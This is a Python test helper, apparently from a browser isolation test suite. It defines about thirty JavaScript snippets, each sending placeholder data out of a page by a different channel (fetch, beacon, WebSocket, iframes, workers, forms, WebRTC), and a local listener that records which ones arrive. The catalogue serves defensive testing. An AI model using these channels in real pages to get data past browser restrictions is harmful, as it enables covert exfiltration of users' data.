"""Every way out of a page that we know of, and somebody outside who writes down what arrives."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from functools import partial

from tests.eventually import PATIENCE

#: Each sends `way` to `out` (another origin) or to the page's own, and waits until the browser is done with it.
#: `told` resolves when an element has loaded or failed.
FIRST = """
const told = (element) => new Promise((done) => { element.onload = element.onerror = element.onloadstart = done; });
const put = (name, set) => {
  const element = Object.assign(document.createElement(name), set);
  document.body.append(element);
  return element;
};
const soon = () => new Promise((done) => setTimeout(done, 300));
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const ring = async (Connection) => {
  const line = new Connection({ iceServers: [{ urls: `stun:${host}` }] });
  line.createDataChannel("x");
  await line.setLocalDescription();
  await new Promise((done) => { line.onicecandidate = done; });
};
"""
WAYS = {
    "fetch": "await fetch(to, { method: 'POST', mode: 'no-cors', body: picture })",
    "xhr": "const ask = new XMLHttpRequest(); ask.open('POST', to);"
    " const done = told(ask); ask.send(picture); await done",
    "beacon": "navigator.sendBeacon(to, picture)",
    "image": "await told(put('img', { src: to }))",
    "websocket": "await told(new WebSocket(to.replace('http', 'ws')))",
    "eventsource": "await told(new EventSource(to))",
    "frame": "await told(put('iframe', { src: to }))",
    "script": "await told(put('script', { src: to }))",
    "styles": "await told(put('link', { rel: 'stylesheet', href: to }))",
    "prefetch": "await told(put('link', { rel: 'prefetch', href: to }))",
    "video": "await told(put('video', { src: to, preload: 'auto' }))",
    "ping": "put('a', { href: '#there', ping: to }).click()",
    "blob worker": "const one = new Worker(blob(`fetch('${to}').finally(() => postMessage(0))`));"
    " await new Promise((done) => { one.onmessage = one.onerror = done; })",
    "data worker": "new Worker(`data:text/javascript,fetch('${to}')`); await soon()",
    "module": "await import(to)",
    "object": "put('object', { data: to }); await soon()",
    "styles of its own": "put('style', { textContent: `@import '${to}';` }); await soon()",
    "text as code": "setTimeout(`fetch('${to}')`); await soon()",
    "frame with words": "put('iframe', { srcdoc: `<img src=${to}>` }); await soon()",
    "fetch of a frame": "await put('iframe', {}).contentWindow.fetch(to, { mode: 'no-cors' })",
    "place of a frame": "put('iframe', {}).contentWindow.location = to; await soon()",
    "own house": "await fetch('/elsewhere?' + way)",
    "form": "const form = put('form', { action: to, method: 'post', enctype: 'multipart/form-data' }); form.submit()",
    "window": "window.open(to)",
    "refresh": "put('meta', { httpEquiv: 'refresh', content: '0;url=' + to })",
    "location": "location.href = to",
    "click": "put('a', { href: to }).click()",
    "frame that leads": "put('iframe', {}).contentWindow.top.location = to",
    "connection": "await ring(RTCPeerConnection)",
    "connection of a frame": "await ring(put('iframe', {}).contentWindow.RTCPeerConnection)",
}
WELL = b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
#: These lead the page away, or would: whatever comes after needs a fresh one.
LEADING = frozenset({"form", "window", "refresh", "location", "click", "frame that leads"})
#: The same from a worker.
OF_A_WORKER = {
    "worker fetch": "await fetch(to, { method: 'POST', mode: 'no-cors', body: picture })",
    "worker xhr": "const ask = new XMLHttpRequest(); ask.open('POST', to, false); ask.send(picture)",
    "worker websocket": "const one = new WebSocket(to.replace('http', 'ws'));"
    " await new Promise((done) => { one.onopen = one.onerror = done; })",
    "worker script": "importScripts(to)",
}


@dataclass
class Outside:
    """`heard`: what arrived: the ways by name. Each way that asks for a connection has a port of its own."""

    origin: str = ""
    ports: dict[str, int] = field(default_factory=dict)
    heard: set[str] = field(default_factory=set)
    more: asyncio.Event = field(default_factory=asyncio.Event)

    def script(self, way: str) -> str:
        """To be run in a page, or in a worker: this way out, tried."""
        host = f"127.0.0.1:{self.ports.get(way, 0)}"
        known = f"const way = '{slug(way)}', to = '{self.origin}/{slug(way)}', host = '{host}', picture = 'pixels';"
        body = f"{FIRST} {WAYS[way]}" if way in WAYS else OF_A_WORKER[way]
        return f"(async () => {{ {known} try {{ {body} }} catch {{}} }})()"

    def hear(self, way: str) -> None:
        self.heard.add(way)
        self.more.set()

    async def missing(self, ways: Iterable[str]) -> set[str]:
        """Those that have not arrived, though they had time."""
        wanted = {slug(way) for way in ways}
        with suppress(TimeoutError):
            async with asyncio.timeout(PATIENCE):
                while not wanted <= self.heard:
                    self.more.clear()
                    await self.more.wait()
        return wanted - self.heard

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        if line:
            self.hear(line.split(b" ")[1].decode().strip("/"))
            writer.write(WELL)
        writer.close()


def slug(way: str) -> str:
    return way.replace(" ", "_")


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, outside: Outside, way: str) -> None:
        self.outside, self.way = outside, way

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.outside.hear(slug(self.way))


@asynccontextmanager
async def outside() -> AsyncIterator[Outside]:
    there, lines = Outside(), []
    server = await asyncio.start_server(there.answer, "127.0.0.1", 0)
    there.origin = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    for way in ("connection", "connection of a frame"):
        ear = partial(_Datagrams, there, way)
        line, _ = await asyncio.get_running_loop().create_datagram_endpoint(ear, ("127.0.0.1", 0))
        there.ports[way] = line.get_extra_info("sockname")[1]
        lines.append(line)
    try:
        yield there
    finally:
        for line in lines:
            line.close()
        server.close()
